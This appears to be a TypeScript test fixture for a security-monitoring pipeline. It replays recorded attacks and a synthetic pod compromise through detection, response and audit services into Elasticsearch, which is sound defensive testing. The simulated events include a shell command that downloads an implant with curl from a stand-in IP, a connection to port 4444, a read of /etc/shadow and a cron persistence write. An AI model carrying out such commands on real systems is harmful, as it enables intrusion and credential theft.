/** A recorded attack in a real Elasticsearch, stored by the auditor. */
import type { KeyObject } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';
import { CLUSTER_DEFAULTS, ClusterSink, startAuditor } from '@ringfence/auditor';
import { silentLog } from '@ringfence/base';
import { type EmbeddedBus, type OutRecord, openEmbeddedBus } from '@ringfence/bus';
import { loadConfig } from '@ringfence/config';
import { loadRecording } from '@ringfence/rule-corpus/recordings';
import { startReplayServices } from '@ringfence/runtime/replay';
import { lagOf } from '@ringfence/runtime/status';
import {
  createSyntheticHost,
  createTestAlert,
  createTestCommand,
  createTestIncident,
  createTestResult,
  O,
} from '@ringfence/synthetic';
import { createLogger } from '@ringfence/telemetry';
import {
  deadLetter,
  encode,
  LANE,
  type OperatorAction,
  type Recording,
  routeOf,
  TOPIC,
  topicsWith,
  UNSIGNED,
} from '@ringfence/wire';

/** Rules whose recorded actions are played, each on a host of its own. */
const RECORDED = [
  "Downloaded script run by a server's command",
  'Download tool started by a server',
  'Downloaded file executed',
  "Reverse shell by bash's own network",
  'Network of a container explored by its shell',
  'Password hashes read',
  'Cron job written in a container',
];
const CGROUP = 77n;

export interface StoreOptions {
  readonly url: string;
  readonly prefix: string;
  /** Start of the attack that is not recorded, µs since the epoch. @default 2026-01-01 */
  readonly at?: number;
}

/**
 * Plays recorded attacks and one in a pod through enricher, detector, responder and auditor. Records that these do not
 * make here, such as results of agents, are written by hand.
 */
export async function storeAttack({ url, prefix, at = Date.UTC(2026, 0, 1) * 1000 }: StoreOptions): Promise<void> {
  await using stack = new AsyncDisposableStack();
  const bus = stack.use(await openEmbeddedBus({ path: ':memory:' }));
  await bus.ensureTopics(topicsWith(1));
  await play(bus, at);
  await bus.produce(otherRecords(at));
  const options = { ...CLUSTER_DEFAULTS, nodes: [url], prefix, eventSample: 1 };
  const sink = new ClusterSink({ options, log: silentLog, trusted: () => () => undefined });
  const auditor = stack.use(await startAuditor({ options: { path: 'unused' }, bus, log: silentLog, sink }));
  await idle(bus, ['auditor'], auditor.done);
}

async function play(bus: EmbeddedBus, at: number): Promise<void> {
  await using stack = new AsyncDisposableStack();
  const batches = [...(await recordedBatches()), ...podBatches(at)];
  await bus.produce(batches.map(({ value }) => ({ ...routeOf(value), value })));
  const enrolled: Recording['enrolled'] = new Map(batches.map(({ value, key }) => [routeOf(value).key, key]));
  const log = createLogger({ level: 'error' });
  const services = await startReplayServices(stack, bus, { enrolled }, loadConfig(), log);
  const failed = Promise.race([services.enricher.done, services.detector.done, services.responder.done]);
  await idle(bus, ['enricher', 'detector', 'detector', 'responder'], failed);
}

type Batch = { readonly value: Buffer; readonly key: KeyObject };

async function recordedBatches(): Promise<Batch[]> {
  const batches: Batch[] = [];
  for (const rule of RECORDED) {
    const recording = await loadRecording(rule);
    if (recording === undefined) throw new Error(`there is no recording of "${rule}"`);
    batches.push(...recording.batches.map((value) => ({ value, key: recording.key })));
  }
  return batches;
}

/** An attack on a pod: a server's shell fetches an implant, reads secrets and stays; the host loses events. */
function podBatches(at: number): Batch[] {
  const host = createSyntheticHost({ wallOffset: at, ktime: 60_000_000 });
  host.hashes();
  host.user(0, 'root');
  const pod = { pod: 'web-6d4f', podUid: 'f00d', namespace: 'shop' };
  const labels = { 'io.kubernetes.pod.name': pod.pod, 'io.kubernetes.pod.namespace': pod.namespace };
  host.container({ cgroup: CGROUP, image: 'shop/web:1.4', ...pod, labels });
  const server = host.spawn(host.fork(host.init, { cgroup: CGROUP }), '/usr/sbin/nginx');
  host.listen(server, 80);
  const shell = host.spawn(server, '/bin/sh', ['sh', '-c', 'id; curl http://198.51.100.7/x -o /tmp/.x']);
  const curl = host.spawn(shell, '/usr/bin/curl', ['curl', 'http://198.51.100.7/x', '-o', '/tmp/.x']);
  host.connect(curl, '198.51.100.7', 80);
  host.open(curl, '/tmp/.x', O.WRONLY | O.CREAT);
  const implant = host.spawn(shell, '/tmp/.x');
  host.connect(implant, '198.51.100.7', 4444);
  host.open(implant, '/etc/shadow');
  host.open(implant, '/etc/cron.d/update', O.WRONLY | O.CREAT);
  host.drop(LANE.security, 12);
  // The next number shows the loss.
  host.exit(curl);
  // The enricher waits some ticks for numbers that are missing.
  const ticks = Array.from({ length: 8 }, () => {
    host.tick();
    return host.batch();
  });
  return ticks.map((value) => ({ value, key: host.key.publicKey }));
}

/** What agents answer, what people do to keys, what no service could read, and a host that fell silent. */
function otherRecords(at: number): OutRecord[] {
  const second = 1_000_000;
  const silent = { kind: 'silence', rule: 'Agent fell silent', lineage: [], timestamp: at + 300 * second };
  const results = (['executed', 'refused', 'expired'] as const).flatMap((outcome, i) => {
    const alert = createTestAlert(i + 1, { timestamp: at + (60 + i) * second });
    const command = { ...createTestCommand(alert.id), issuedAt: at + (61 + i) * second, expiresAt: at + 90 * second };
    const reason = outcome === 'refused' ? 'protected process' : '';
    const result = createTestResult(command, { outcome, reason, at: at + (62 + i) * second });
    return [
      { topic: TOPIC.alerts, value: encode('Alert', alert) },
      { topic: TOPIC.commands, value: encode('Command', command) },
      { topic: TOPIC.results, value: encode('Result', result) },
    ];
  });
  const shell = createTestAlert(8, { timestamp: at + 10 * second });
  const contained = {
    ...createTestIncident([shell], 2),
    ...{ hostname: 'db-1', score: 61.5, status: 'contained' as const, verdict: 'true_positive' as const },
    lead: { rule: shell.rule, tactics: shell.tactics, executable: '/bin/sh' },
    stages: [{ tactic: 'execution', techniques: shell.techniques, firstSeen: shell.timestamp }],
  };
  const enrolment = {
    ...{ subject: 'detector-1', role: 'detector', publicKey: Buffer.alloc(44), signingKeyId: 'k1', version: 1 },
    ...{ certificateSerials: ['01'], issuedAt: at, revokedAt: 0, ...UNSIGNED },
  };
  const action: OperatorAction = {
    ...{ id: 'a1', at: at + 120 * second, hostId: 'admin-1', hostname: 'admin-1', action: 'incident.set' },
    ...{ target: contained.id, reason: 'tested by the red team', uid: 1000, user: 'ann', claimedUid: -1 },
    ...{ claimedUser: '', origin: 'socket', command: `ringfence incident set ${contained.id}`, pid: 42 },
    ...{ details: { state: 'contained' }, ...UNSIGNED },
  };
  const unreadable = { topic: TOPIC.alerts, partition: 0, offset: 7, value: Buffer.from('?') };
  return [
    { topic: TOPIC.alerts, value: encode('Alert', createTestAlert(9, silent)) },
    { topic: TOPIC.incidents, value: encode('Incident', contained) },
    ...results,
    { topic: TOPIC.enrolments, value: encode('Enrolment', enrolment) },
    { topic: TOPIC.operator, value: encode('OperatorAction', action) },
    deadLetter(unreadable, new Error('not an alert'), 'auditor'),
  ].map((record) => ({ key: 'host', ...record }));
}

async function idle(
  bus: EmbeddedBus,
  services: readonly Parameters<typeof lagOf>[1][],
  failed: Promise<void>,
): Promise<void> {
  for (;;) {
    const lags = await Promise.all(services.map((service) => lagOf(bus, service)));
    if (lags.every((lag) => lag === 0)) return;
    await Promise.race([failed, sleep(5)]);
  }
}
